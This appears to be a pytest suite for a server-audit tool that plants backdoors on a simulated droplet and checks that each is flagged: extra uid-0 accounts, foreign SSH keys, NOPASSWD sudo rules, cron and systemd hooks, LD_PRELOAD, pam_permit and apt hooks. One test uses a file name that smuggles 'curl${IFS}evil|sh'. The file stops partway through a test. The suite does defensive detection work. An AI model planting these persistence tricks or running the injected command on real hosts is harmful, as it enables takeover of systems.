"""What nobody declared: each kind is seen on a droplet that had nothing foreign, and goes by its name alone."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import sys
import time
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from stackctl.core import config
from stackctl.core.errors import FailedError, RefusedError
from stackctl.core.machine import Machine
from stackctl.core.paths import Paths
from stackctl.core.program import ENVIRONMENT, Result
from stackctl.host import foreign
from stackctl.host.findings import Finding
from tests.support.fakes.droplet import CONFIG

OURS = "PasswordAuthentication no\nAuthorizedKeysFile .ssh/authorized_keys\n"
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF"
OPERATORS = "AAAAC3NzaC1lZDI1NTE5AAAAIGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGG"
FINGERPRINT = "SHA256:" + base64.b64encode(hashlib.sha256(base64.b64decode(KEY)).digest()).decode().rstrip("=")
MODULES = "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\n"
DEBIANS_CRON = "17 * * * * root run-parts\n"
LISTEN = "   0: 00000000:{:04X} 00000000:0000 0A 00000000:00000000 00:00000000 00000000 0 0 1\n"
HEAD = "  sl  local_address rem_address   st\n"


class Sshd(Machine):
    """sshd's answer by its rule, the first value that is read; every other program is only noted."""

    def __init__(self, root: Path) -> None:
        self.root, self.ran = root, list[str]()

    def run(
        self,
        argv: Sequence[str],
        env: Mapping[str, str] = ENVIRONMENT,
        timeout: float = 60,
        *,
        stdin: Path | None = None,
        stdout: Path | None = None,
        most: int = sys.maxsize,
    ) -> Result:
        if argv[0] != "/usr/sbin/sshd":
            self.ran.append(" ".join(argv))
            return Result(0)
        etc = self.root / "etc/ssh"
        files = [self.root / argv[3][1:]] if "-f" in argv else [*sorted((etc / "sshd_config.d").glob("*.conf"))]
        user = argv[argv.index("-C") + 1].partition(",")[0].removeprefix("user=") if "-C" in argv else None
        said: dict[str, str] = {}
        for file in files:
            applies = True
            for line in file.read_text().splitlines():
                keyword, _, value = line.partition(" ")
                if keyword == "Match":
                    applies = value == f"User {user}"
                elif applies:
                    said.setdefault(keyword.lower(), value)
        return Result(0, "".join(f"{keyword} {value}\n" for keyword, value in said.items()))


class Droplet:
    """A root directory on which nothing is foreign."""

    def __init__(self, root: Path) -> None:
        self.root, self.paths, self.machine = root, Paths("bot", root), Sshd(root)
        self.declared: dict[str, Any] = {
            "version": 1,
            "files": ["/etc/ssh/sshd_config.d/00-bot.conf", "/home/deploy/.ssh/authorized_keys"],
            "units": ["fail2ban.service"],
            "logins": ["deploy", "ci"],
            "ports": [22],
            "accepted": {},
        }
        self.declared["files"] += ["/etc/sysctl.d/60-bot.conf", "/etc/systemd/system/bot.service"]
        self.put(
            "etc/passwd", "root:x:0:0:root:/root:/bin/bash\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n"
        )
        self.add("etc/passwd", "deploy:x:1000:1000::/home/deploy:/bin/bash\nci:x:993:993::/home/ci:/bin/sh\n")
        self.put("etc/shadow", "".join(f"{login}:*:1::::::\n" for login in ("root", "nobody", "deploy", "ci")))
        self.put("etc/group", "root:x:0:\ndocker:x:990:\nsudo:x:27:deploy\nnobody:x:65534:\n")
        self.put("etc/ssh/sshd_config.d/00-bot.conf", OURS)
        self.put("etc/ssh/sshd_config.d/50-cloud-init.conf", "PasswordAuthentication yes\n")
        self.put("home/deploy/.ssh/authorized_keys", f"ssh-ed25519 {OPERATORS} me\n")
        self.put("root/.ssh/authorized_keys", f"ssh-ed25519 {OPERATORS} me\n")
        self.put("etc/sudoers.d/90-cloud-init-users", "# Created by cloud-init\n\ndeploy ALL=(ALL) NOPASSWD:ALL\n")
        self.put("etc/sysctl.d/60-bot.conf", "net.ipv4.conf.*.rp_filter = 1\nnet.ipv4.conf.all.rp_filter = 1\n")
        for interface in ("all", "eth0"):
            self.put(f"proc/sys/net/ipv4/conf/{interface}/rp_filter", "1\n")
        self.put("proc/net/tcp", HEAD + LISTEN.format(22) + "   1: 0100007F:1F90 00000000:0000 0A\n")
        self.put("proc/net/udp", HEAD + "   1: 00000000:D431 00000000:0000 07\n")
        self.put("etc/systemd/system/bot.service", "[Service]\nExecStart=/bin/true\n")
        self.link(
            "etc/systemd/system/multi-user.target.wants/fail2ban.service", "/usr/lib/systemd/system/fail2ban.service"
        )
        self.put("etc/pam.d/common-auth", f"# made by pam-auth-update\n{MODULES}")
        self.put(
            "usr/share/pam-configs/unix", "Name: Unix\nAuth:\n\t[success=end default=ignore]\tpam_unix.so nullok\n"
        )
        self._images()
        self._packages()
        assert self.names() == []

    def _images(self) -> None:
        """What images, installers and cloud-init write, and no package has."""
        for name in ("bashrc", "profile"):
            self.put(f"usr/share/base-files/dot.{name}", f"# {name}\n")
            self.put(f"root/.{name}", f"# {name}\n")
        self.put("etc/modules", "# /etc/modules: kernel modules to load at boot time.\n")
        self.put(
            "etc/default/grub.d/10_cloud.cfg",
            'GRUB_CMDLINE_LINUX="consoleblank=0 $GRUB_CMDLINE_LINUX"\nGRUB_TIMEOUT=0\nGRUB_TERMINAL="console serial"\n',
        )
        self.put(
            "etc/network/interfaces",
            "# lo\nauto lo\niface lo inet loopback\n\nsource /etc/network/interfaces.d/*\nsource-directory "
            "/etc/network/interfaces.d\n",
        )
        self.put(
            "etc/network/interfaces.d/50-cloud-init",
            "auto eth0\niface eth0 inet static\n    address 192.0.2.7/20\n    dns-nameservers 192.0.2.2 192.0.2.3\n"
            "    gateway 192.0.2.1\n    mtu 1500\n"
            "    post-up route add -net 10.0.0.0 netmask 255.0.0.0 gw 10.1.0.1 || true\n"
            "    pre-down route del -net 10.0.0.0 netmask 255.0.0.0 gw 10.1.0.1 || true\n\n"
            "# control-alias eth0\niface eth0 inet6 static\n    address 2001:db8::7/64\n",
        )

    def _packages(self) -> None:
        self.put("usr/lib/systemd/system/fail2ban.service", "[Install]\nWantedBy=multi-user.target\n")
        self.put("usr/lib/systemd/system/debug-shell.service", "[Install]\nWantedBy=sysinit.target\n")
        self.put("usr/lib/systemd/system-preset/90-systemd.preset", "disable debug-shell.service\n")
        self.put("etc/cron.d/e2scrub", DEBIANS_CRON)
        self.put("etc/crontab", DEBIANS_CRON)
        listed = ["fail2ban.service", "debug-shell.service"]
        lines = "".join(f"/lib/systemd/system/{name}\n" for name in listed) + "/etc/cron.d/e2scrub\n"
        lines += "/usr/share/pam-configs/unix\n"
        self.put("usr/lib/python3/dist-packages/distutils-precedence.pth", "import os\n")
        lines += "/usr/lib/python3/dist-packages/distutils-precedence.pth\n"
        self.put("var/lib/dpkg/info/some.list", f"/.\n/etc\n{lines}")
        digest = hashlib.md5(DEBIANS_CRON.encode(), usedforsecurity=False).hexdigest()
        sums = f" /etc/cron.d/e2scrub {digest}\n /etc/crontab {digest}\n"
        self.put("var/lib/dpkg/status", f"Package: some\nStatus: install ok installed\nConffiles:\n{sums}Version: 1\n")

    def put(self, path: str, text: str) -> None:
        (self.root / path).parent.mkdir(parents=True, exist_ok=True)
        (self.root / path).write_text(text)

    def add(self, path: str, text: str) -> None:
        with (self.root / path).open("a") as file:
            file.write(text)

    def link(self, path: str, target: str) -> None:
        (self.root / path).parent.mkdir(parents=True, exist_ok=True)
        (self.root / path).unlink(missing_ok=True)
        (self.root / path).symlink_to(target)

    def look(self) -> foreign.Foreign:
        self.paths.etc.mkdir(parents=True, exist_ok=True)
        self.paths.declared.write_text(json.dumps(self.declared))
        self.paths.config.write_text(json.dumps(CONFIG))
        return foreign.look(self.paths, config.load(self.paths), self.machine)

    def names(self) -> list[str]:
        return [one.name for one in self.look().findings]

    def only(self) -> Finding:
        (one,) = self.look().findings
        return one

    def remove(self, *names: str) -> None:
        self.look()
        foreign.remove(self.paths, config.load(self.paths), self.machine, names)


@pytest.fixture
def bare(tmp_path: Path) -> Droplet:
    return Droplet(tmp_path)


def put(path: str, text: str = "x\n") -> Callable[[Droplet], None]:
    return lambda bare: bare.put(path, text)


def add(path: str, text: str) -> Callable[[Droplet], None]:
    return lambda bare: bare.add(path, text)


def link(path: str, target: str) -> Callable[[Droplet], None]:
    return lambda bare: bare.link(path, target)


SYSTEM = "etc/systemd/system"
KINDS: dict[str, tuple[Callable[[Droplet], None], str, str]] = {
    # accounts
    "a second root": (add("etc/passwd", "toor:x:0:5::/home/toor:/bin/false\n"), "account:toor", "remove"),
    "a uid of two zeros": (add("etc/passwd", "toor:x:00:5::/home/toor:/bin/false\n"), "account:toor", "remove"),
    "root's group": (add("etc/passwd", "toor:x:500:0::/home/toor:/bin/false\n"), "account:toor", "remove"),
    "a shell": (add("etc/passwd", "svc:x:500:500::/home/svc:/bin/dash\n"), "account:svc", "remove"),
    "no shell named, which is /bin/sh": (add("etc/passwd", "svc:x:500:500::/home/svc:\n"), "account:svc", "remove"),
    "a second root, in the C library's short form": (add("etc/passwd", "toor:x:0:0\n"), "account:toor", "remove"),
    "a uid with a sign": (add("etc/passwd", "toor:x:+0:5::/:/bin/false\n"), "account:toor", "remove"),
    "a name with a blank": (add("etc/passwd", " deploy:x:0:5::/:/bin/sh\n"), "account:\\x20deploy", "remove"),
    "a person": (add("etc/passwd", "eve:x:1001:1001::/home/eve:/usr/sbin/nologin\n"), "account:eve", "remove"),
    "a password": (add("etc/passwd", "svc:$y$j9T:9:9::/:/bin/false\n"), "password:svc", "hand"),
    "no password at all": (add("etc/passwd", "svc::9:9::/:/bin/false\n"), "password:svc", "hand"),
    "nobody in docker": (put("etc/group", "docker:x:990:nobody\n"), "member:docker:nobody", "remove"),
    "docker by another name": (add("etc/group", "players:x:990:\n"), "group:players", "hand"),
    "docker by another name, with its number spelt otherwise": (
        add("etc/group", "players:x:0990:\n"),
        "group:players",
        "hand",
    ),
    "docker as one's own group": (add("etc/passwd", "svc:x:500:990::/:/bin/false\n"), "account:svc", "remove"),
    "a key of root's": (add("root/.ssh/authorized_keys", f"ssh-rsa {KEY} eve\n"), f"key:root:{FINGERPRINT}", "remove"),
    "a key behind more than is read": (
        add("root/.ssh/authorized_keys", "#\n" * (1 << 15) + f"ssh-rsa {KEY} eve\n"),
        "key:root:line-32729",
        "remove",
    ),
    "a second file of keys": (
        put("root/.ssh/authorized_keys2", f"ssh-rsa {KEY}\n"),
        f"key:root:{FINGERPRINT}",
        "remove",
    ),
    "a key with options": (
        put("home/ci/.ssh/authorized_keys", f'environment="A=B C",command="sh" ssh-ed25519 {KEY} eve\n'),
        f"key:ci:{FINGERPRINT}",
        "remove",
    ),
    "a key behind one of ours in quotes": (
        add("root/.ssh/authorized_keys", f'environment="A= ssh-rsa {OPERATORS} " ssh-rsa {KEY}\n'),
        f"key:root:{FINGERPRINT}",
        "remove",
    ),
    "a key of an operator's, with a quote that is escaped": (
        add("root/.ssh/authorized_keys", f'environment="A=\\" ssh-rsa {OPERATORS} " ssh-rsa {KEY}\n'),
        f"key:root:{FINGERPRINT}",
        "remove",
    ),
    # sudo
    "a rule that no prefix of the file shows": (
        add("etc/sudoers.d/90-cloud-init-users", "# x\n" * (1 << 16) + "eve ALL=(ALL) ALL\n"),
        "/etc/sudoers.d/90-cloud-init-users",
        "remove",
    ),
    "everything for somebody": (
        put("etc/sudoers.d/zz", "nobody ALL=(ALL) NOPASSWD: ALL\n"),
        "/etc/sudoers.d/zz",
        "remove",
    ),
    "cloud-init's file with more": (
        add("etc/sudoers.d/90-cloud-init-users", "#0 ALL=(ALL) ALL\n"),
        "/etc/sudoers.d/90-cloud-init-users",
        "remove",
    ),
    "cloud-init's file including another": (
        add("etc/sudoers.d/90-cloud-init-users", "#include /tmp/x\n"),
        "/etc/sudoers.d/90-cloud-init-users",
        "remove",
    ),
    # what runs by itself
    "a job": (put("etc/cron.d/job", "* * * * * root sh\n"), "/etc/cron.d/job", "remove"),
    "a user's job": (put("var/spool/cron/crontabs/root", "* * * * * sh\n"), "/var/spool/cron/crontabs/root", "remove"),
    "a daily script": (put("etc/cron.daily/job"), "/etc/cron.daily/job", "remove"),
    "Debian's job, changed": (add("etc/cron.d/e2scrub", "* * * * * root sh\n"), "/etc/cron.d/e2scrub", "hand"),
    "the crontab, changed": (add("etc/crontab", "* * * * * root sh\n"), "/etc/crontab", "hand"),
    "a stranger's unit": (put(f"{SYSTEM}/x.service"), f"/{SYSTEM}/x.service", "remove"),
    "a unit in /run": (put("run/systemd/system/x.service"), "/run/systemd/system/x.service", "remove"),
    "a unit beside Debian's": (put("usr/lib/systemd/system/x.service"), "/usr/lib/systemd/system/x.service", "remove"),
    "a transient unit": (put("run/systemd/transient/x.service"), "/run/systemd/transient/x.service", "remove"),
    "a drop-in over ours": (put(f"{SYSTEM}/bot.service.d/x.conf"), f"/{SYSTEM}/bot.service.d/x.conf", "remove"),
    "a drop-in of set-property": (
        put("etc/systemd/system.control/bot.service.d/50-x.conf"),
        "/etc/systemd/system.control/bot.service.d/50-x.conf",
        "remove",
    ),
    "a unit from elsewhere": (link(f"{SYSTEM}/x.service", "/srv/x.service"), f"/{SYSTEM}/x.service", "remove"),
    "one that Debian leaves off": (
        link(f"{SYSTEM}/sysinit.target.wants/debug-shell.service", "/usr/lib/systemd/system/debug-shell.service"),
        f"/{SYSTEM}/sysinit.target.wants/debug-shell.service",
        "remove",
    ),
    "another unit under the name of one": (
        link(f"{SYSTEM}/multi-user.target.wants/x.service", "/usr/lib/systemd/system/fail2ban.service"),
        f"/{SYSTEM}/multi-user.target.wants/x.service",
        "remove",
    ),
    "a unit of a portable service": (
        put("etc/systemd/system.attached/x.service"),
        "/etc/systemd/system.attached/x.service",
        "remove",
    ),
    "a program for the environment": (
        put("etc/systemd/system-environment-generators/x"),
        "/etc/systemd/system-environment-generators/x",
        "remove",
    ),
    "an environment for all units": (
        put("etc/systemd/system.conf", "[Manager]\nDefaultEnvironment=LD_PRELOAD=/x\n"),
        "/etc/systemd/system.conf",
        "remove",
    ),
    "a hook of dhclient's": (
        put("etc/dhcp/dhclient-exit-hooks.d/x"),
        "/etc/dhcp/dhclient-exit-hooks.d/x",
        "remove",
    ),
    "a program at each shutdown": (
        put("usr/lib/systemd/system-shutdown/x"),
        "/usr/lib/systemd/system-shutdown/x",
        "remove",
    ),
    "a program of cloud-init's at each boot": (
        put("var/lib/cloud/scripts/per-boot/x"),
        "/var/lib/cloud/scripts/per-boot/x",
        "remove",
    ),
    # run-parts --lsbsysinit and certbot run these
    "a program named as ucf's": (put("etc/update-motd.d/9-x.ucf-old"), "/etc/update-motd.d/9-x.ucf-old", "remove"),
    "a hook named as dpkg's": (
        put("etc/letsencrypt/renewal-hooks/deploy/x.dpkg-old"),
        "/etc/letsencrypt/renewal-hooks/deploy/x.dpkg-old",
        "remove",
    ),
    "netplan's drop-in with another program": (
        put("run/systemd/system/systemd-networkd-wait-online.service.d/10-netplan.conf", "[Service]\nExecStart=/x\n"),
        "/run/systemd/system/systemd-networkd-wait-online.service.d/10-netplan.conf",
        "remove",
    ),
    "a generator": (put("etc/systemd/system-generators/x"), "/etc/systemd/system-generators/x", "remove"),
    "a mask of ours": (link(f"{SYSTEM}/fail2ban.service", "/dev/null"), f"/{SYSTEM}/fail2ban.service", "site"),
    "a mask by an empty file": (put(f"{SYSTEM}/fail2ban.service", ""), f"/{SYSTEM}/fail2ban.service", "site"),
    "a mask until the next boot": (
        link("run/systemd/system/fail2ban.service", "/dev/null"),
        "/run/systemd/system/fail2ban.service",
        "site",
    ),
    "a mask of another": (link(f"{SYSTEM}/cron.service", "/dev/null"), f"/{SYSTEM}/cron.service", "remove"),
    "a unit that is off": (
        lambda bare: (bare.root / SYSTEM / "multi-user.target.wants/fail2ban.service").unlink(),
        "unit:fail2ban.service",
        "site",
    ),
    # the kernel
    "a later sysctl file": (put("etc/sysctl.d/99-zz.conf", "vm.swappiness=1\n"), "/etc/sysctl.d/99-zz.conf", "remove"),
    "another value of one of ours": (
        put("proc/sys/net/ipv4/conf/all/rp_filter", "0\n"),
        "sysctl:net.ipv4.conf.all.rp_filter",
        "site",
    ),
    "another value by a pattern of ours": (
        put("proc/sys/net/ipv4/conf/eth0/rp_filter", "0\n"),
        "sysctl:net.ipv4.conf.eth0.rp_filter",
        "site",
    ),
    "modules": (put("etc/modules-load.d/x.conf"), "/etc/modules-load.d/x.conf", "remove"),
    "cloud-init's rule of udev with a program": (
        put(
            "etc/udev/rules.d/70-persistent-net.rules",
            'SUBSYSTEM=="net", ACTION=="add", RUN+="/x", NAME="eth0"\n',
        ),
        "/etc/udev/rules.d/70-persistent-net.rules",
        "remove",
    ),
    "udev": (put("etc/udev/rules.d/x.rules"), "/etc/udev/rules.d/x.rules", "remove"),
    "modules, in the old file": (put("etc/modules", "# x\nx\n"), "/etc/modules", "remove"),
    "the boot loader's configuration with a command": (
        put("etc/default/grub.d/15_timeout.cfg", 'GRUB_TIMEOUT="$(/x)"\n'),
        "/etc/default/grub.d/15_timeout.cfg",
        "remove",
    ),
    "the same behind a value": (
        put("etc/default/grub.d/15_timeout.cfg", "GRUB_TIMEOUT=0; /x\n"),
        "/etc/default/grub.d/15_timeout.cfg",
        "remove",
    ),
    # the network
    "a command of ifupdown's": (
        add("etc/network/interfaces", "    up /x\n"),
        "/etc/network/interfaces",
        "hand",
    ),
    "a command behind a route": (
        add("etc/network/interfaces.d/50-cloud-init", "post-up route add default gw 192.0.2.1 || true; /x\n"),
        "/etc/network/interfaces.d/50-cloud-init",
        "hand",
    ),
    "an interface": (put("etc/network/interfaces.d/x", "auto eth0\n"), "/etc/network/interfaces.d/x", "hand"),
    # root's own programs
    "root's shell": (add("root/.bashrc", "alias sudo=/x\n"), "/root/.bashrc", "remove"),
    "root's login": (add("root/.profile", "/x\n"), "/root/.profile", "remove"),
    "root's login, by bash's own name": (put("root/.bash_profile"), "/root/.bash_profile", "remove"),
    "a line that Python runs at each start": (
        put("usr/lib/python3/dist-packages/x.pth", "import x\n"),
        "/usr/lib/python3/dist-packages/x.pth",
        "remove",
    ),
    "the same beside Debian's": (
        put("usr/local/lib/python3.13/dist-packages/x.pth", "import x\n"),
        "/usr/local/lib/python3.13/dist-packages/x.pth",
        "remove",
    ),
    "a module that Python loads by itself": (
        put("usr/local/lib/python3.13/dist-packages/sitecustomize.py"),
        "/usr/local/lib/python3.13/dist-packages/sitecustomize.py",
        "remove",
    ),
    "one by a link": (
        link("usr/lib/python3/dist-packages/usercustomize.py", "/srv/x.py"),
        "/usr/lib/python3/dist-packages/usercustomize.py",
        "remove",
    ),
    # the rest
    "a source of packages": (
        put("etc/apt/sources.list.d/x.list", "deb https://packages.example.com/debian trixie main\n"),
        "/etc/apt/sources.list.d/x.list",
        "remove",
    ),
    "Debian's source, trusted without a key": (
        put("etc/apt/sources.list", "deb [trusted=yes] http://ftp.debian.org/debian trixie main\n"),
        "/etc/apt/sources.list",
        "remove",
    ),
    "a mirror of packages": (
        put("etc/apt/mirrors/debian.list", "https://packages.example.com/debian\n"),
        "/etc/apt/mirrors/debian.list",
        "remove",
    ),
    "a key of packages": (put("etc/apt/trusted.gpg.d/x.asc"), "/etc/apt/trusted.gpg.d/x.asc", "remove"),
    "apt's hook": (
        put("etc/apt/apt.conf.d/20auto-upgrades", "DPkg::Pre-Invoke x;\n"),
        "/etc/apt/apt.conf.d/20auto-upgrades",
        "remove",
    ),
    "apt's hook in cloud-init's file": (
        put("etc/apt/apt.conf.d/94cloud-init-config", 'APT::Update::Pre-Invoke:: "/x";\n'),
        "/etc/apt/apt.conf.d/94cloud-init-config",
        "remove",
    ),
    "apt's hook behind a comment": (
        put("etc/apt/apt.conf.d/20auto-upgrades", '/* */ APT::Update::Pre-Invoke:: "/x";\n'),
        "/etc/apt/apt.conf.d/20auto-upgrades",
        "remove",
    ),
    "apt's file including another": (
        put("etc/apt/apt.conf.d/20auto-upgrades", '#include "/x";\n'),
        "/etc/apt/apt.conf.d/20auto-upgrades",
        "remove",
    ),
    "nginx": (put("etc/nginx/conf.d/x.conf"), "/etc/nginx/conf.d/x.conf", "remove"),
    "preload": (put("etc/ld.so.preload"), "/etc/ld.so.preload", "remove"),
    "PAM": (add("etc/pam.d/common-auth", "auth sufficient pam_permit.so\n"), "/etc/pam.d/common-auth", "hand"),
    "PAM that lets everybody in": (
        put("etc/pam.d/common-auth", "auth required pam_permit.so\n"),
        "/etc/pam.d/common-auth",
        "hand",
    ),
    "PAM that passes by its refusal": (
        put("etc/pam.d/common-auth", f"auth [default=1] pam_permit.so\n{MODULES}auth required pam_permit.so\n"),
        "/etc/pam.d/common-auth",
        "hand",
    ),
    "PAM whose refusal is of another kind": (
        put("etc/pam.d/common-auth", "account requisite pam_deny.so\nauth required pam_permit.so\n"),
        "/etc/pam.d/common-auth",
        "hand",
    ),
    "PAM behind a link": (link("etc/pam.d/common-account", "/srv/x"), "/etc/pam.d/common-account", "hand"),
    "a profile of PAM": (put("usr/share/pam-configs/x"), "/usr/share/pam-configs/x", "remove"),
    "sshd's configuration": (put("etc/ssh/sshd_config"), "/etc/ssh/sshd_config", "hand"),
    "a PAM file": (put("etc/pam.d/x"), "/etc/pam.d/x", "remove"),
    "the environment": (put("etc/environment", "LD_PRELOAD=/tmp/x.so\n"), "/etc/environment", "remove"),
    "a path of programs": (put("etc/environment", "PATH=/tmp/x:/usr/bin\n"), "/etc/environment", "remove"),
    "rc.local": (put("etc/rc.local"), "/etc/rc.local", "remove"),
    "before Debian's programs": (put("usr/local/sbin/sudo"), "/usr/local/sbin/sudo", "remove"),
    "an authority": (put("usr/local/share/ca-certificates/x.crt"), "/usr/local/share/ca-certificates/x.crt", "remove"),
    "a FIFO": (lambda bare: os.mkfifo(bare.root / "etc/cron.d/fifo"), "/etc/cron.d/fifo", "remove"),
    "certbot's hook": (
        put("etc/letsencrypt/renewal-hooks/deploy/x"),
        "/etc/letsencrypt/renewal-hooks/deploy/x",
        "remove",
    ),
    "a port": (add("proc/net/tcp", LISTEN.format(8080)), "listener:tcp:8080", "hand"),
    "a port over IPv6": (
        put("proc/net/tcp6", HEAD + "   0: " + "0" * 32 + ":1F90 " + "0" * 32 + ":0000 0A\n"),
        "listener:tcp:8080",
        "hand",
    ),
    "a port of UDP": (add("proc/net/udp", "   0: 00000000:0035 00000000:0000 07\n"), "listener:udp:53", "hand"),
}


@pytest.mark.parametrize("kind", KINDS)
def test_each_kind_is_found_and_can_be_accepted(bare: Droplet, kind: str) -> None:
    plant, name, remedy = KINDS[kind]
    plant(bare)
    one = bare.only()
    assert (one.name, one.remedy) == (name, remedy)
    assert any(line.startswith(f"{name}: ") for line in foreign.problems(bare.look()))
    bare.declared["accepted"] = {name: "we know"}
    assert bare.names() == []
    assert bare.look().accepted == [name]


def test_an_acceptance_of_what_is_gone_is_told(bare: Droplet) -> None:
    bare.declared["accepted"] = {"/etc/cron.d/backup": "the agency's", "account:eve": "hers"}
    lines = foreign.problems(bare.look())
    assert [line.split()[2].rstrip(",") for line in lines] == ["/etc/cron.d/backup", "account:eve"]


def test_without_the_site_s_list_nothing_is_called_foreign_and_that_is_told(bare: Droplet) -> None:
    bare.put("etc/cron.d/job", "x")
    bare.look()
    for content in (None, "", "[]", '{"files": 1}'):
        bare.paths.declared.unlink(missing_ok=True)
        if content is not None:
            bare.paths.declared.write_text(content)
        found = foreign.look(bare.paths, config.load(bare.paths), bare.machine)
        (line,) = foreign.problems(found)
        assert (found.findings, line.endswith("make site")) == ([], True)


def test_what_the_site_put_there_is_not_foreign(bare: Droplet) -> None:
    bare.put("etc/cron.d/job", "x")
    bare.put("home/ci/.ssh/authorized_keys", f"ssh-ed25519 {KEY}\n")
    assert len(bare.names()) == 2
    bare.declared["files"] += ["/etc/cron.d/job", "/home/ci/.ssh/authorized_keys"]
    assert bare.names() == []


def test_sshd_obeying_another_file_is_refused_by_that_file_s_name(bare: Droplet) -> None:
    bare.put("etc/ssh/sshd_config.d/00-aaa.conf", "PasswordAuthentication yes\n")
    found = {one.name: one for one in bare.look().findings}
    assert found.keys() == {"sshd:passwordauthentication", "/etc/ssh/sshd_config.d/00-aaa.conf"}
    told = found["sshd:passwordauthentication"]
    assert (told.remedy, told.path) == ("refuse", "/etc/ssh/sshd_config.d/00-aaa.conf")
    assert foreign.next_step(told) == "make site REMOVE=/etc/ssh/sshd_config.d/00-aaa.conf"
    bare.remove("/etc/ssh/sshd_config.d/00-aaa.conf")
    assert bare.names() == []


def test_a_later_file_of_sshd_s_changes_nothing_in_force(bare: Droplet) -> None:
    bare.put("etc/ssh/sshd_config.d/zz.conf", "PasswordAuthentication yes\n")
    assert bare.names() == ["/etc/ssh/sshd_config.d/zz.conf"]


def test_what_sshd_grants_one_login_alone_is_seen(bare: Droplet) -> None:
    bare.put("etc/ssh/sshd_config.d/00-aaa.conf", "Match User root\nPasswordAuthentication yes\n")
    assert "sshd:passwordauthentication" in bare.names()


def test_keys_are_looked_for_where_sshd_looks(bare: Droplet) -> None:
    bare.put("etc/ssh/sshd_config.d/00-aaa.conf", "AuthorizedKeysFile /srv/keys/%u\n")
    bare.put("srv/keys/root", f"ssh-ed25519 {KEY}\n")
    assert f"key:root:{FINGERPRINT}" in bare.names()


def test_a_program_that_answers_for_keys_is_told(bare: Droplet) -> None:
    bare.put("etc/ssh/sshd_config.d/zz.conf", "AuthorizedKeysCommand /tmp/x\n")
    assert "sshd:authorizedkeyscommand" in bare.names()


def test_a_sysctl_file_that_overrides_ours_is_told_with_its_parameter(bare: Droplet) -> None:
    bare.put("etc/sysctl.d/99-zz.conf", "net.ipv4.conf.all.rp_filter=0\n")
    assert bare.names() == ["/etc/sysctl.d/99-zz.conf"]
    bare.declared["accepted"] = {"/etc/sysctl.d/99-zz.conf": "we know"}
    bare.look()
    bare.declared["files"].append("/etc/sysctl.d/99-zz.conf")
    assert bare.names() == ["sysctl.d:net.ipv4.conf.all.rp_filter"]


def test_a_file_of_keys_that_never_ends_or_never_begins_is_waited_for_by_nobody(bare: Droplet) -> None:
    keys = bare.root / "home/ci/.ssh"
    keys.mkdir(parents=True)
    os.mkfifo(keys / "authorized_keys")
    (keys / "authorized_keys2").symlink_to("/dev/zero")
    began = time.monotonic()
    assert bare.names() == []
    assert time.monotonic() - began < 5


def test_names_and_contents_are_shown_printable_and_no_command_is_shown(bare: Droplet) -> None:
    bare.put("etc/cron.d/a\x1b[2Jb\u202e", "* * * * * root curl -H 'Token: s3cr3t' x\n")
    bare.add("root/.ssh/authorized_keys", f"ssh-ed25519 {KEY} eve\x1b[2J\n")
    text = "\n".join(foreign.problems(bare.look()))
    assert text.replace("\n", "").isprintable()
    assert "s3cr3t" not in text
    assert "\\x1b" in text


def test_a_name_that_a_shell_would_obey_is_no_command_and_is_not_removed(bare: Droplet) -> None:
    """An operator pastes the next step into the shell of their own machine."""
    bare.put("etc/cron.d/x;curl${IFS}evil|sh", "x")
    (line,) = foreign.problems(bare.look())
    assert line.endswith("correct it by hand, or accept it in group_data (foreign_accepted)")
    with pytest.raises(RefusedError, match="nothing foreign"):
        bare.remove("/etc/cron.d/x;curl${IFS}evil|sh")


def test_a_blank_makes_no_name_pass_for_an_accepted_one(bare: Droplet) -> None:
    bare.declared["accepted"] = {"/etc/sudoers.d/x": "we know"}
    for name in ("x", "x ", "x\n"):
        bare.put(f"etc/sudoers.d/{name}", "eve ALL=(ALL) ALL\n")
    assert sorted(bare.names()) == ["/etc/sudoers.d/x\\x0a", "/etc/sudoers.d/x\\x20"]


def test_what_debian_and_cloud_init_make_is_not_foreign(bare: Droplet) -> None:
    bare.put("etc/cron.d/e2scrub.dpkg-dist", "x")
    bare.put("etc/systemd/system/bot.service.dpkg-old", "x")
    permit = "auth required pam_permit.so\n"
    bare.add("etc/pam.d/common-auth", permit)
    bare.put(
        "etc/pam.d/common-session", f"{permit.replace('required', '[default=1]')}{permit}".replace("auth", "session")
    )
    pipelining = "//Written by cloud-init per 'apt_pipelining'\nAcquire::http::Pipeline-Depth \"0\";\n"
    bare.put("etc/apt/apt.conf.d/90cloud-init-pipelining", pipelining)
    bare.put("etc/apt/mirrors/debian.list", "https://ftp.debian.org/debian\n")
    uris = "Types: deb deb-src\nURIs: mirror+file:///etc/apt/mirrors/debian.list\n"
    bare.put("etc/apt/sources.list.d/debian.sources", f"{uris}Suites: trixie trixie-updates\nComponents: main\n")
    bare.put("etc/environment", 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games"\n')
    rule = 'SUBSYSTEM=="net", ACTION=="add", DRIVERS=="?*", ATTR{address}=="de:ad:00:00:00:01", NAME="eth0"\n'
    bare.put("etc/udev/rules.d/70-persistent-net.rules", rule)
    bare.put("run/udev/rules.d/99-netplan-eth0.rules", rule)
    wait = "systemd-networkd-wait-online"
    condition = f"ConditionPathIsSymbolicLink=/run/systemd/generator/network-online.target.wants/{wait}.service"
    starts = "".join(f"ExecStart={command}\n" for command in ("", f"/lib/systemd/{wait} --any --dns -i eth0:degraded"))
    text = f"[Unit]\n{condition}\n\n[Service]\n{starts}"
    bare.put(f"run/systemd/system/{wait}.service.d/10-netplan.conf", text)
    assert bare.names() == []


def test_of_sshd_s_configuration_an_image_may_have_set_what_our_drop_in_decides(bare: Droplet) -> None:
    debians = "Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\n"
    bare.put("usr/share/openssh/sshd_config", f"# Debian's\n{debians}")
    bare.put("var/lib/ucf/hashfile", f"{'0' * 32}  /etc/ssh/sshd_config\n")
    bare.put("etc/ssh/sshd_config", f"PermitRootLogin yes\n{debians}PasswordAuthentication no\n")
    assert bare.names() == []
    for more in ("PermitRootLogin yes\nUsePAM no\n", "Match User eve\nPermitRootLogin yes\n"):
        bare.put("etc/ssh/sshd_config", debians + more)
